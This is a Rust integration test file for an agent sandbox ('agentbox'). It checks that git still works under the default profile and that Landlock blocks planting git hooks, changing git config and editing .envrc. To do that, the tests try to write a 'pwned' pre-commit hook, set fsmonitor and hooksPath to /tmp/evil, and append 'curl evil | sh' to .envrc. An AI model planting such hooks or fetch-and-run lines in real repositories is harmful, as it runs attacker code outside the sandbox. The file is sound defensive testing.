//! `[filesystem] protect` through `agentbox run`: git keeps working under the default profile,
//! and protected files that would run code outside the sandbox later (git hooks, git config,
//! `.envrc`) stay readable but cannot be planted or changed, with the Landlock denial in the
//! audit log (as root, where the eBPF observer reports Landlock denials with their path).

use std::path::Path;
use std::process::Command;

use agentbox_tests::{ebpf_tier, RunAs, RunResult, Scenario};

const GIT_IDENTITY: [(&str, &str); 4] = [
    ("GIT_AUTHOR_NAME", "agent"),
    ("GIT_AUTHOR_EMAIL", "agent@example.invalid"),
    ("GIT_COMMITTER_NAME", "agent"),
    ("GIT_COMMITTER_EMAIL", "agent@example.invalid"),
];

/// Runs git in `dir` outside the sandbox, with the scenario's HOME and no user config.
fn git(s: &Scenario, dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", &s.home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .envs(GIT_IDENTITY)
        .output()
        .expect("run git");
    assert!(out.status.success(), "git {args:?}: {out:?}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A workspace that is a git repository with one commit.
fn repository() -> Scenario {
    let mut s = Scenario::new(RunAs::Current);
    s.env.extend(
        GIT_IDENTITY
            .iter()
            .map(|(k, v)| (k.into(), v.into()))
            .chain([("GIT_CONFIG_NOSYSTEM".into(), "1".into())]),
    );
    let ws = s.workspace.clone();
    git(&s, &ws, &["init", "-q", "-b", "main", "."]);
    s.plant_in_workspace("src/lib.py", "x = 1\n");
    git(&s, &ws, &["add", "src/lib.py"]);
    git(&s, &ws, &["commit", "-q", "-m", "first"]);
    s
}

/// The Landlock denials whose path ends with `suffix`.
fn landlock_denials_of<'a>(r: &'a RunResult, suffix: &str) -> Vec<&'a serde_json::Value> {
    r.denials_of("landlock")
        .into_iter()
        .filter(|d| {
            d["object"]["path"]
                .as_str()
                .is_some_and(|p| p.ends_with(suffix))
        })
        .collect()
}

#[test]
fn protect_git_status_add_commit_work_under_the_default_profile() {
    let s = repository();
    s.plant_in_workspace("src/lib.py", "x = 2\n");
    let r = s.run(
        &["-q"],
        &[
            "sh",
            "-c",
            "set -e; git status --short; echo y = 1 > src/new.py; git add -A; \
             git commit -q -m 'from the sandbox'; git log --oneline | wc -l",
        ],
    );
    assert_eq!(r.code(), Some(0), "{}", r.dump());
    assert!(r.stdout.contains(" M src/lib.py"), "{}", r.dump());
    assert_eq!(r.stdout.lines().last(), Some("2"), "{}", r.dump());
    // The commit is real: objects, index and refs were written.
    let log = git(&s, &s.workspace, &["log", "--format=%s"]);
    assert_eq!(log.lines().next(), Some("from the sandbox"));
    let status = git(&s, &s.workspace, &["status", "--porcelain"]);
    assert_eq!(status, "", "everything committed");
}

#[test]
fn protect_planting_a_git_hook_or_changing_git_config_is_denied_and_logged() {
    let s = repository();
    let config_before = std::fs::read_to_string(s.workspace.join(".git/config")).unwrap();
    // Under a profile that protects git's own files (which costs the agent `git commit`: the
    // default profile leaves them out, see profiles/default.toml).
    let profile = s.profile(
        "no-git-writes",
        "extends = \"default\"\n[filesystem]\nprotect = [\"**/.git/hooks\", \"**/.git/config\"]\n",
    );
    let profile = profile.to_str().unwrap();
    let r = s.run(
        &["-q", "--profile", profile],
        &[
            "sh",
            "-c",
            "cat .git/config >/dev/null && echo config-readable; \
             ls .git/hooks >/dev/null && echo hooks-listable; \
             printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && echo hook-planted; \
             echo '[core] fsmonitor = /tmp/evil' >> .git/config && echo config-appended; \
             git config core.hooksPath /tmp/evil && echo config-set; \
             true",
        ],
    );
    assert_eq!(r.code(), Some(0), "{}", r.dump());
    assert!(r.stdout.contains("config-readable"), "{}", r.dump());
    assert!(r.stdout.contains("hooks-listable"), "{}", r.dump());
    for planted in ["hook-planted", "config-appended", "config-set"] {
        assert!(!r.stdout.contains(planted), "{planted}: {}", r.dump());
    }
    assert!(!s.workspace.join(".git/hooks/pre-commit").exists());
    let config_after = std::fs::read_to_string(s.workspace.join(".git/config")).unwrap();
    assert_eq!(config_after, config_before);

    if !ebpf_tier("protect_planting_a_git_hook_is_logged") {
        return;
    }
    let hook = landlock_denials_of(&r, ".git/hooks/pre-commit");
    assert!(!hook.is_empty(), "no denial for the hook: {}", r.dump());
    assert_eq!(hook[0]["object"]["access"], "open", "{}", r.dump());
    assert!(
        !landlock_denials_of(&r, ".git/config").is_empty(),
        "no denial for the config append: {}",
        r.dump()
    );
    // `git config` writes config.lock and renames it over config.
    assert!(
        !landlock_denials_of(&r, ".git/config.lock").is_empty(),
        "no denial for git config's lock file: {}",
        r.dump()
    );
}

#[test]
fn protect_existing_envrc_is_read_only_under_the_default_profile() {
    let s = Scenario::new(RunAs::Current);
    let envrc = s.plant_in_workspace("proj/.envrc", "export A=1\n");
    let r = s.run(
        &["-q"],
        &[
            "sh",
            "-c",
            "cat proj/.envrc; echo 'curl evil | sh' >> proj/.envrc && echo appended; \
             rm -f proj/.envrc && echo removed; true",
        ],
    );
    assert_eq!(r.code(), Some(0), "{}", r.dump());
    assert!(r.stdout.contains("export A=1"), "{}", r.dump());
    assert!(!r.stdout.contains("appended"), "{}", r.dump());
    assert!(!r.stdout.contains("removed"), "{}", r.dump());
    assert_eq!(std::fs::read_to_string(&envrc).unwrap(), "export A=1\n");
    if !ebpf_tier("protect_existing_envrc_is_logged") {
        return;
    }
    assert!(
        !landlock_denials_of(&r, "proj/.envrc").is_empty(),
        "no denial for .envrc: {}",
        r.dump()
    );
}
